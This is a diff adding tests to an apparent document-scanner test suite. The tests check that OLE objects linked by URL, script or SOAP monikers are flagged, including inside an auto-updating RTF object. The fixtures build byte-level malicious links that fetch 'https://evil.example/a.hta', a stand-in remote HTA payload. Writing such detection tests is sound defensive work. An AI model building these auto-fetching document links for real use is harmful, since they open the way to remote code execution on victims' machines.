@@ -284,6 +284,47 @@ describe('what a document loads or starts', () => {
     for (const type of ['oleObject', 'attachedTemplate', 'hyperlink', 'image']) expect(look(relation(type, target)).macros).toBe(true);
   });
 
+  it.each([
+    ['URL', 'e0c9ea79f9bace118c8200aa004ba90b'],
+    ['script', 'd30b2906aa48d2118432006008c3fbfc'],
+    ['SOAP', 'c7b0abec197fd211978e0000f8757e2a'],
+  ])('is an object that is linked by a moniker, in any document: %s', (name, id) => {
+    const address = Buffer.from('https://evil.example/a.hta\0', 'utf16le');
+    const link = Buffer.concat([
+      Buffer.from('0100000202000000', 'hex'),
+      Buffer.alloc(16),
+      Buffer.from(id, 'hex'),
+      Buffer.from([address.length, 0, 0, 0]),
+      address,
+    ]);
+    const linked = ole([{ path: '\x01Ole', bytes: link }]);
+    const stored = Buffer.concat([Buffer.from('0105000002000000', 'hex'), Buffer.from([9, 0, 0, 0]), Buffer.from('OLE2Link\0'), Buffer.alloc(8)]);
+    const size = Buffer.from(Uint32Array.of(linked.length).buffer);
+    const rtf = look(Buffer.from(`{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata ${Buffer.concat([stored, size, linked]).toString('hex')}}}}`));
+    for (const bytes of [
+      linked,
+      ole([
+        { path: 'WordDocument', bytes: Buffer.alloc(1024) },
+        { path: 'ObjectPool/_1/\x01Ole', bytes: link },
+      ]),
+      rtf.embedded[0]?.bytes,
+    ]) {
+      const seen = look(bytes ?? Buffer.alloc(0));
+      expect(seen.macros).toBe(true);
+      expect(seen.findings.find(({ code }) => code === 'DOC_PROGRAM')?.evidence).toBe(`${name} moniker https://evil.example/a.hta`);
+    }
+  });
+
+  it('is no link to a file', () => {
+    const file = Buffer.concat([
+      Buffer.from('0100000202000000', 'hex'),
+      Buffer.alloc(16),
+      Buffer.from('0303000000000000c000000000000046', 'hex'),
+      Buffer.alloc(60),
+    ]);
+    expect(look(ole([{ path: '\x01Ole', bytes: file }])).macros).toBe(false);
+  });
+
   it('is the project of a database', () => {
     for (const encoding of ['latin1', 'utf16le'] as const) {
       const bytes = Buffer.concat([Buffer.from('\0\x01\0\0Standard ACE DB\0', 'latin1'), Buffer.alloc(4096), Buffer.from('VBAProject', encoding)]);
